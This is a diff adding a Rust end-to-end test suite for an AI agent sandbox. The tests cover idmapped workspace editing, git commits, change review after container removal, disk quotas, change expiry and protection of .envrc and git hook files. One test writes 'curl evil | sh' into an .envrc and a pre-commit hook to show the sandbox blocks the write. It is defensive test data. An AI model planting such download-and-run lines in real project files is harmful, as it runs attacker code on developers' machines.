@@ -1,0 +1,585 @@
+//! Workspace suite (docs/workspace.md): an ordinary checkout, owned by uid 1000 with modes
+//! 0644/0755, is editable inside the sandbox and `git` works there with no flags, while the
+//! host checkout stays as it was; the changes outlive the container (podman `--rm`,
+//! `podman rm`, `ctr run --rm`) and are found by name or id without `--root`; the writable
+//! layer has a quota; kept change sets expire.
+//!
+//! Each property is shown failing without the feature: a user-namespaced runc container
+//! (the same id shift as the sandbox, no idmapped workspace) gets "Permission denied"; a
+//! policy without `workspace_size` lets the same write grow the host disk.
+
+use std::fs;
+use std::os::unix::fs::MetadataExt;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use agent_sandbox_e2e::ctr::{self, Shim};
+use agent_sandbox_e2e::harness::{self, DEFAULT_TIMEOUT, Output, TOOLS_IMAGE, User};
+use agent_sandbox_e2e::podman::{ContainerGuard, Podman, Runtime};
+use anyhow::{Context, bail, ensure};
+
+/// The developer's uid and gid (an ordinary first user).
+const DEV: u32 = 1000;
+/// The host's git, bound into the tools image (which has its libraries) read-only.
+const HOST_GIT: &str = "/usr/local/bin/git";
+
+/// A container name unique to this test process, with this suite's prefix.
+fn name(stem: &str) -> String {
+    static NEXT: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
+    let n = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
+    format!("ws-{stem}-{}-{n}", std::process::id())
+}
+
+/// `agent-sandbox ARGS...` (no `--root`: the change store is found from any entry point).
+fn runtime(args: &[&str]) -> anyhow::Result<Output> {
+    harness::require_file(harness::runtime_bin())?;
+    harness::run(
+        Command::new(harness::runtime_bin()).args(args),
+        DEFAULT_TIMEOUT,
+    )
+}
+
+fn runtime_ok(args: &[&str]) -> anyhow::Result<Output> {
+    let out = runtime(args)?;
+    ensure!(out.success(), "{out}");
+    Ok(out)
+}
+
+/// Host git on the checkout (as root: `safe.directory` for the uid-1000 repo).
+fn host_git(repo: &Path, args: &[&str]) -> anyhow::Result<String> {
+    let out = harness::run_ok(
+        Command::new(HOST_GIT)
+            .args(["-c", "safe.directory=*", "-C"])
+            .arg(repo)
+            .args(args),
+        DEFAULT_TIMEOUT,
+    )?;
+    Ok(out.stdout)
+}
+
+/// A git checkout owned by uid/gid 1000 (0644 files, 0755 dirs) with one commit.
+struct Checkout {
+    _dir: tempfile::TempDir,
+    repo: PathBuf,
+}
+
+fn checkout() -> anyhow::Result<Checkout> {
+    harness::require_file(HOST_GIT)?;
+    let dir = tempfile::tempdir()?;
+    fs::set_permissions(
+        dir.path(),
+        std::os::unix::fs::PermissionsExt::from_mode(0o755),
+    )?;
+    let repo = dir.path().join("repo");
+    fs::create_dir_all(repo.join("src"))?;
+    fs::write(
+        repo.join("src/calc.py"),
+        "def add(a, b):\n    return a + b\n",
+    )?;
+    fs::write(repo.join("README"), "calc\n")?;
+    host_git(&repo, &["init", "-q"])?;
+    host_git(&repo, &["add", "-A"])?;
+    host_git(
+        &repo,
+        &[
+            "-c",
+            "user.name=dev",
+            "-c",
+            "user.email=dev@example.invalid",
+            "commit",
+            "-qm",
+            "init",
+        ],
+    )?;
+    harness::run_ok(
+        Command::new("chown")
+            .args(["-R", &format!("{DEV}:{DEV}")])
+            .arg(&repo),
+        DEFAULT_TIMEOUT,
+    )?;
+    harness::run_ok(
+        Command::new("chmod").args(["-R", "u=rwX,go=rX"]).arg(&repo),
+        DEFAULT_TIMEOUT,
+    )?;
+    Ok(Checkout { _dir: dir, repo })
+}
+
+/// What the host checkout looks like: status, commits, owner and the edited file.
+fn host_state(repo: &Path) -> anyhow::Result<(String, String, u32, String)> {
+    Ok((
+        host_git(repo, &["status", "--porcelain"])?,
+        host_git(repo, &["log", "--oneline"])?,
+        fs::metadata(repo.join("src/calc.py"))?.uid(),
+        fs::read_to_string(repo.join("src/calc.py"))?,
+    ))
+}
+
+/// The agent's session: edit, create in a new subdirectory, delete, commit with git.
+const AGENT_SCRIPT: &str = "set -e; cd /workspace; \
+    echo 'def sub(a, b): return a - b' >> src/calc.py; \
+    mkdir -p src/new && echo 'x = 1' > src/new/mod.py; \
+    rm README; \
+    git config --global user.name agent; git config --global user.email agent@example.invalid; \
+    git status --short; git add -A; git commit -qm 'agent: sub'; \
+    echo COMMITTED $(git rev-parse HEAD); git log --oneline | wc -l";
+
+/// The sandbox's changes as `diff` shows them, after its container is gone.
+fn expect_reviewable(key: &str, out: &Output) -> anyhow::Result<()> {
+    ensure!(
+        out.stdout.contains("COMMITTED ") && out.stdout.trim_end().ends_with('2'),
+        "git commit did not work inside the sandbox\n{out}"
+    );
+    ensure!(
+        !out.stderr.contains("dubious ownership") && !out.stderr.contains("Permission denied"),
+        "{out}"
+    );
+    let diff = runtime_ok(&["diff", key])?;
+    for line in [
+        "M /src/calc.py (file)",
+        "A /src/new/mod.py (file)",
+        "D /README (file)",
+    ] {
+        ensure!(
+            diff.stdout.lines().any(|l| l == line),
+            "diff of {key} lacks {line:?}\n{diff}"
+        );
+    }
+    ensure!(
+        diff.stdout
+            .lines()
+            .any(|l| l.starts_with("M /.git/refs/heads/") && l.ends_with("(file)")),
+        "diff of {key} shows no moved branch\n{diff}"
+    );
+    let export = tempfile::tempdir()?;
+    let to = export.path().join("out");
+    runtime_ok(&["export", "--to-dir", &to.display().to_string(), key])?;
+    let calc = fs::read_to_string(to.join("src/calc.py"))?;
+    ensure!(calc.contains("def sub"), "exported calc.py: {calc:?}");
+    ensure!(to.join("src/new/mod.py").exists());
+    let commit = out
+        .stdout
+        .lines()
+        .find_map(|l| l.strip_prefix("COMMITTED "))
+        .context("no commit id")?;
+    let object = to
+        .join(".git/objects")
+        .join(&commit[..2])
+        .join(&commit[2..]);
+    ensure!(
+        object.exists(),
+        "the agent's commit object {} was not exported",
+        object.display()
+    );
+    let list = runtime_ok(&["changes"])?;
+    ensure!(
+        list.stdout.lines().any(|l| l.contains(key)),
+        "changes does not list {key}\n{list}"
+    );
+    Ok(())
+}
+
+/// The naive setup, today's behaviour without the idmapped workspace: a container whose
+/// root is an unprivileged host id (runc with the same kind of id shift) cannot edit the
+/// uid-1000 checkout.
+fn naive_userns_cannot_edit(repo: &Path) -> anyhow::Result<()> {
+    let volume = format!("{}:/workspace", repo.display());
+    let out = Podman::new(User::Root, Runtime::Runc).run(&[
+        "run",
+        "--rm",
+        "--uidmap",
+        "0:3000000:65536",
+        "--gidmap",
+        "0:3000000:65536",
+        "-v",
+        &volume,
+        TOOLS_IMAGE,
+        "sh",
+        "-c",
+        "echo x >> /workspace/src/calc.py; echo x > /workspace/src/new.py",
+    ])?;
+    ensure!(
+        out.stderr.matches("Permission denied").count() >= 2,
+        "the naive baseline should be refused both writes\n{out}"
+    );
+    Ok(())
+}
+
+#[test]
+fn podman_agent_edits_and_commits_a_uid_1000_checkout_reviewable_after_run_rm() -> anyhow::Result<()>
+{
+    harness::require_podman_image(User::Root, TOOLS_IMAGE)?;
+    let co = checkout()?;
+    let before = host_state(&co.repo)?;
+    naive_userns_cannot_edit(&co.repo)?;
+    ensure!(
+        host_state(&co.repo)? == before,
+        "the baseline changed the host"
+    );
+
+    let n = name("podman");
+    let volume = format!("{}:/workspace", co.repo.display());
+    let git = format!("{HOST_GIT}:/usr/bin/git:ro");
+    let p = Podman::new(User::Root, Runtime::AgentSandbox);
+    let _g = ContainerGuard {
+        podman: p,
+        name: n.clone(),
+    };
+    let out = p.run(&[
+        "run",
+        "--rm",
+        "--name",
+        &n,
+        "-v",
+        &volume,
+        "-v",
+        &git,
+        TOOLS_IMAGE,
+        "sh",
+        "-c",
+        AGENT_SCRIPT,
+    ])?;
+    ensure!(out.success(), "{out}");
+    let gone = p.run(&["container", "exists", &n])?;
+    ensure!(gone.code == Some(1), "podman --rm left {n}\n{gone}");
+    ensure!(host_state(&co.repo)? == before, "the host checkout changed");
+    expect_reviewable(&n, &out)?;
+    let discarded = runtime_ok(&["changes", "discard", &n])?;
+    ensure!(discarded.stdout.contains("discarded"), "{discarded}");
+    let again = runtime(&["diff", &n])?;
+    ensure!(
+        again.code == Some(1) && again.stderr.contains("does not exist"),
+        "{again}"
+    );
+    Ok(())
+}
+
+#[test]
+fn podman_changes_survive_podman_rm_and_are_found_by_short_id() -> anyhow::Result<()> {
+    harness::require_podman_image(User::Root, TOOLS_IMAGE)?;
+    let co = checkout()?;
+    let n = name("rm");
+    let volume = format!("{}:/workspace", co.repo.display());
+    let p = Podman::new(User::Root, Runtime::AgentSandbox);
+    let _g = ContainerGuard {
+        podman: p,
+        name: n.clone(),
+    };
+    let out = p.run(&[
+        "run",
+        "--name",
+        &n,
+        "-v",
+        &volume,
+        TOOLS_IMAGE,
+        "sh",
+        "-c",
+        "echo changed > /workspace/README",
+    ])?;
+    ensure!(out.success(), "{out}");
+    let id = p.run_ok(&["inspect", "--format", "{{.Id}}", &n])?.stdout;
+    let id = id.trim().to_owned();
+    p.run_ok(&["rm", &n])?;
+    let diff = runtime_ok(&["diff", &id[..12]])?;
+    ensure!(
+        diff.stdout.lines().any(|l| l == "M /README (file)"),
+        "{diff}"
+    );
+    ensure!(fs::read_to_string(co.repo.join("README"))? == "calc\n");
+    runtime_ok(&["changes", "discard", &id])?;
+    Ok(())
+}
+
+#[test]
+fn ctr_run_rm_changes_stay_reviewable_without_root() -> anyhow::Result<()> {
+    ctr::require_containerd()?;
+    let images = harness::run_ok(ctr::ctr().args(["images", "ls", "-q"]), DEFAULT_TIMEOUT)?;
+    if !images.stdout.lines().any(|l| l == TOOLS_IMAGE) {
+        bail!("image {TOOLS_IMAGE} is not in containerd; run hack/containerd.sh");
+    }
+    let co = checkout()?;
+    let before = host_state(&co.repo)?;
+    let id = name("ctr");
+    let ws = format!(
+        "type=bind,src={},dst=/workspace,options=rbind:rw",
+        co.repo.display()
+    );
+    let git = format!("type=bind,src={HOST_GIT},dst=/usr/bin/git,options=rbind:ro");
+    let out = ctr::run_rm(
+        Shim::AgentSandbox,
+        &["--mount", &ws, "--mount", &git],
+        TOOLS_IMAGE,
+        &id,
+        &["sh", "-c", AGENT_SCRIPT],
+    )?;
+    ensure!(out.success(), "{out}");
+    let gone = harness::run(
+        ctr::ctr().args(["containers", "info", &id]),
+        DEFAULT_TIMEOUT,
+    )?;
+    ensure!(!gone.success(), "ctr run --rm left {id}\n{gone}");
+    ensure!(host_state(&co.repo)? == before, "the host checkout changed");
+    expect_reviewable(&id, &out)?;
+    let list = runtime_ok(&["changes", "list", "--json"])?;
+    let record: serde_json::Value = list
+        .stdout
+        .lines()
+        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
+        .find(|r| r["container"] == id.as_str())
+        .with_context(|| format!("no record for {id}\n{list}"))?;
+    ensure!(record["entry_point"] == "containerd", "{record}");
+    ensure!(
+        record["workspace"] == co.repo.display().to_string().as_str(),
+        "{record}"
+    );
+    runtime_ok(&["changes", "discard", &id])?;
+    Ok(())
+}
+
+/// A policy file: the `agent` profile with its `[filesystem]` keys changed by `edit`.
+fn agent_policy(dir: &Path, file: &str, edit: impl Fn(&str) -> String) -> anyhow::Result<String> {
+    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("../profiles/agent.toml");
+    let text =
+        fs::read_to_string(&source).with_context(|| format!("cannot read {}", source.display()))?;
+    let path = dir.join(file);
+    fs::write(&path, edit(&text))?;
+    Ok(path.display().to_string())
+}
+
+/// Runs `script` in a sandbox with `policy`; returns the output and the kept record.
+fn run_with_policy(
+    policy: &str,
+    repo: &Path,
+    stem: &str,
+    script: &str,
+) -> anyhow::Result<(Output, serde_json::Value, String)> {
+    let n = name(stem);
+    let volume = format!("{}:/workspace", repo.display());
+    let flag = format!("policy={policy}");
+    let p = Podman::new(User::Root, Runtime::AgentSandbox);
+    let _g = ContainerGuard {
+        podman: p,
+        name: n.clone(),
+    };
+    let out = p.run(&[
+        "--runtime-flag",
+        &flag,
+        "run",
+        "--rm",
+        "--name",
+        &n,
+        "-v",
+        &volume,
+        TOOLS_IMAGE,
+        "sh",
+        "-c",
+        script,
+    ])?;
+    let list = runtime_ok(&["changes", "list", "--json"])?;
+    let record = list
+        .stdout
+        .lines()
+        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
+        .find(|r| r["name"] == n.as_str())
+        .with_context(|| format!("no kept change set named {n}\n{list}\n{out}"))?;
+    Ok((out, record, n))
+}
+
+/// The profile text with its `workspace_size` line replaced (or dropped for `None`).
+fn with_workspace_size(text: &str, size: Option<&str>) -> String {
+    let kept: Vec<&str> = text
+        .lines()
+        .filter(|l| !l.starts_with("workspace_size"))
+        .collect();
+    let out = kept.join("\n");
+    match size {
+        Some(size) => out.replacen(
+            "workspace = \"/workspace\"",
+            &format!("workspace = \"/workspace\"\nworkspace_size = \"{size}\""),
+            1,
+        ),
+        None => out,
+    }
+}
+
+#[test]
+fn workspace_quota_gives_enospc_where_the_naive_layer_grows_the_host_disk() -> anyhow::Result<()> {
+    harness::require_podman_image(User::Root, TOOLS_IMAGE)?;
+    let co = checkout()?;
+    let dir = tempfile::tempdir()?;
+    let capped = agent_policy(dir.path(), "capped.toml", |t| {
+        with_workspace_size(t, Some("64M"))
+    })?;
+    let naive = agent_policy(dir.path(), "naive.toml", |t| with_workspace_size(t, None))?;
+    // 160 MiB: past the 64 MiB cap.
+    let script = "dd if=/dev/zero of=/workspace/fill bs=1M count=160 2>&1; echo rc=$?";
+    let (out, record, n) = run_with_policy(&capped, &co.repo, "quota", script)?;
+    ensure!(
+        out.stdout.contains("No space left on device") && !out.stdout.contains("rc=0"),
+        "the write past the quota should fail with ENOSPC\n{out}"
+    );
+    let size = record["size_bytes"].as_u64().context("no size")?;
+    ensure!(
+        size <= 70 << 20,
+        "the capped layer took {size} bytes of host disk\n{record}"
+    );
+    runtime_ok(&["changes", "discard", &n])?;
+    let (out, record, n) = run_with_policy(&naive, &co.repo, "naive", script)?;
+    ensure!(out.stdout.contains("rc=0"), "{out}");
+    let size = record["size_bytes"].as_u64().context("no size")?;
+    ensure!(
+        size >= 160 << 20,
+        "without the quota the same write should take 160 MiB of host disk, took {size}\n{record}"
+    );
+    runtime_ok(&["changes", "discard", &n])?;
+    ensure!(!co.repo.join("fill").exists(), "the write reached the host");
+    Ok(())
+}
+
+#[test]
+fn kept_changes_expire_after_the_policys_age_and_diff_then_finds_nothing() -> anyhow::Result<()> {
+    harness::require_podman_image(User::Root, TOOLS_IMAGE)?;
+    let co = checkout()?;
+    let dir = tempfile::tempdir()?;
+    let policy = agent_policy(dir.path(), "short.toml", |t| {
+        t.lines()
+            .filter(|l| !l.starts_with("changes_max_age"))
+            .collect::<Vec<_>>()
+            .join("\n")
+            .replacen(
+                "workspace = \"/workspace\"",
+                "workspace = \"/workspace\"\nchanges_max_age = \"2s\"",
+                1,
+            )
+    })?;
+    let (out, record, n) =
+        run_with_policy(&policy, &co.repo, "expire", "echo new > /workspace/new.txt")?;
+    ensure!(out.success(), "{out}");
+    ensure!(record["ended"].is_u64(), "{record}");
+    let diff = runtime_ok(&["diff", &n])?;
+    ensure!(diff.stdout.contains("A /new.txt (file)"), "{diff}");
+    std::thread::sleep(std::time::Duration::from_secs(3));
+    // Any create that has a workspace applies the limits too: another test's sandbox may
+    // have removed it first; either way it must be gone now.
+    runtime_ok(&["changes", "prune"])?;
+    let list = runtime_ok(&["changes", "list", "--json"])?;
+    let change = record["change"].as_str().context("no change id")?;
+    ensure!(
+        !list.stdout.contains(change),
+        "{change} outlived its 2 s age\n{list}"
+    );
+    let after = runtime(&["diff", &n])?;
+    ensure!(
+        after.code == Some(1) && after.stderr.contains("does not exist"),
+        "{after}"
+    );
+    Ok(())
+}
+
+#[test]
+fn protected_names_already_in_subdirectories_are_read_only_inside_but_runc_writes_them()
+-> anyhow::Result<()> {
+    harness::require_podman_image(User::Root, TOOLS_IMAGE)?;
+    let co = checkout()?;
+    fs::create_dir_all(co.repo.join("pkg"))?;
+    fs::write(co.repo.join("pkg/.envrc"), "export A=1\n")?;
+    fs::create_dir_all(co.repo.join("vendor/lib/.git/hooks"))?;
+    harness::run_ok(
+        Command::new("chown")
+            .args(["-R", &format!("{DEV}:{DEV}")])
+            .arg(&co.repo),
+        DEFAULT_TIMEOUT,
+    )?;
+    let volume = format!("{}:/workspace", co.repo.display());
+    let script = "echo 'curl evil | sh' >> /workspace/pkg/.envrc; echo envrc=$?; \
+        echo 'curl evil | sh' > /workspace/vendor/lib/.git/hooks/pre-commit; echo hook=$?; \
+        echo fine > /workspace/pkg/notes.txt; echo notes=$?";
+    let n = name("depth");
+    let ours = Podman::new(User::Root, Runtime::AgentSandbox).run(&[
+        "run",
+        "--rm",
+        "--name",
+        &n,
+        "-v",
+        &volume,
+        TOOLS_IMAGE,
+        "sh",
+        "-c",
+        script,
+    ])?;
+    for want in ["envrc=1", "hook=1", "notes=0"] {
+        ensure!(ours.stdout.contains(want), "expected {want}\n{ours}");
+    }
+    runtime_ok(&["changes", "discard", &n])?;
+    ensure!(fs::read_to_string(co.repo.join("pkg/.envrc"))? == "export A=1\n");
+    // runc: both land on the host.
+    let base = Podman::new(User::Root, Runtime::Runc).run(&[
+        "run",
+        "--rm",
+        "-v",
+        &volume,
+        TOOLS_IMAGE,
+        "sh",
+        "-c",
+        script,
+    ])?;
+    for want in ["envrc=0", "hook=0"] {
+        ensure!(
+            base.stdout.contains(want),
+            "runc baseline: expected {want}\n{base}"
+        );
+    }
+    ensure!(fs::read_to_string(co.repo.join("pkg/.envrc"))?.contains("curl evil"));
+    Ok(())
+}
+
+#[test]
+fn rootless_podman_changes_outlive_run_rm_and_are_reviewed_under_podman_unshare()
+-> anyhow::Result<()> {
+    harness::require_podman_image(User::Rootless, TOOLS_IMAGE)?;
+    let dir = harness::temp_dir_for(User::Rootless)?;
+    // Rootless has no idmapped workspace (docs/workspace.md): the directory is open to all.
+    fs::set_permissions(
+        dir.path(),
+        std::os::unix::fs::PermissionsExt::from_mode(0o777),
+    )?;
+    fs::write(dir.path().join("README"), "calc\n")?;
+    let n = name("rootless");
+    let volume = format!("{}:/workspace", dir.path().display());
+    let p = Podman::new(User::Rootless, Runtime::AgentSandbox);
+    let _g = ContainerGuard {
+        podman: p,
+        name: n.clone(),
+    };
+    let out = p.run(&[
+        "run",
+        "--rm",
+        "--name",
+        &n,
+        "-v",
+        &volume,
+        TOOLS_IMAGE,
+        "sh",
+        "-c",
+        "echo new > /workspace/agent.txt",
+    ])?;
+    ensure!(out.success(), "{out}");
+    ensure!(
+        !dir.path().join("agent.txt").exists(),
+        "the write reached the host"
+    );
+    let unshare = |args: &[&str]| {
+        let mut cmd = User::Rootless.command("podman");
+        cmd.arg("unshare").arg(harness::runtime_bin()).args(args);
+        harness::run(&mut cmd, DEFAULT_TIMEOUT)
+    };
+    let diff = unshare(&["diff", &n])?;
+    ensure!(
+        diff.success() && diff.stdout.lines().any(|l| l == "A /agent.txt (file)"),
+        "{diff}"
+    );
+    let discard = unshare(&["changes", "discard", &n])?;
+    ensure!(discard.success(), "{discard}");
+    let again = unshare(&["diff", &n])?;
+    ensure!(again.stderr.contains("does not exist"), "{again}");
+    Ok(())
+}
